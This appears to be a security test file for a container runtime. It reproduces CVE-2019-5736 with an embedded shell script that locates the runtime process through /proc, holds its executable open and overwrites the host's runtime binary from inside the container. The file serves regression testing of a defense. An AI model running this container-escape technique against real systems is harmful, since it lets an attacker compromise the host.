import { execFileSync } from "node:child_process";
import { chmodSync, copyFileSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Arena } from "../arena.ts";
import { eventually } from "../eventually.ts";
import { testAttack } from "./test-attack.ts";

/*
 * CVE-2019-5736. The image's program is a script that names its interpreter as /proc/self/exe, which is the runtime. A
 * process that is in the container already opens the file of that runtime, and writes to it as soon as nobody runs it.
 */

/** Makes the runtime wait, inside of the container, for somebody to read its log. */
const program = "#!/proc/self/exe --log=/stop\n";

const attacker = `
until [ "$victim" ]; do
  for process in /proc/[0-9]*; do
    grep -qs 'log=/sto[p]' $process/cmdline && victim=$process
  done
done
exec 3<$victim/exe
echo >/opened
: </stop
for try in $(seq 50); do
  (echo overwritten >/proc/self/fd/3) 2>/dev/null && break
  sleep 0.02
done
echo >/tried
exec sleep 1000
`;

async function overwrite(arena: Arena, wayIn: (arena: Arena) => void): Promise<boolean> {
  const runtime = join(arena.folder, "cloison");
  copyFileSync(arena.runtime, runtime);
  const original = arena.runtime;
  writeFileSync(join(arena.rootfs, "program"), program);
  chmodSync(join(arena.rootfs, "program"), 0o755);
  execFileSync("mkfifo", [join(arena.rootfs, "stop")]);
  arena.bundle.change({ process: { ...arena.bundle.config.process, args: ["/bin/sh", "-c", attacker] } });
  arena.run(["run", "--detach", "--bundle", arena.bundle.folder, "c1"]);
  arena.runtime = runtime;
  wayIn(arena);
  arena.runtime = original;
  await eventually("the attacker is through", () => existsSync(join(arena.rootfs, "tried")));
  return readFileSync(runtime, "latin1").startsWith("overwritten");
}

const weakened = { "runtime/seal/run-sealed.ts": "tests/runtime/weakened/run-sealed.ts" };

testAttack("the runtime's file cannot be overwritten through exec", {
  weakened,
  attack: (arena) => overwrite(arena, () => arena.run(["exec", "c1", "/program"])),
});
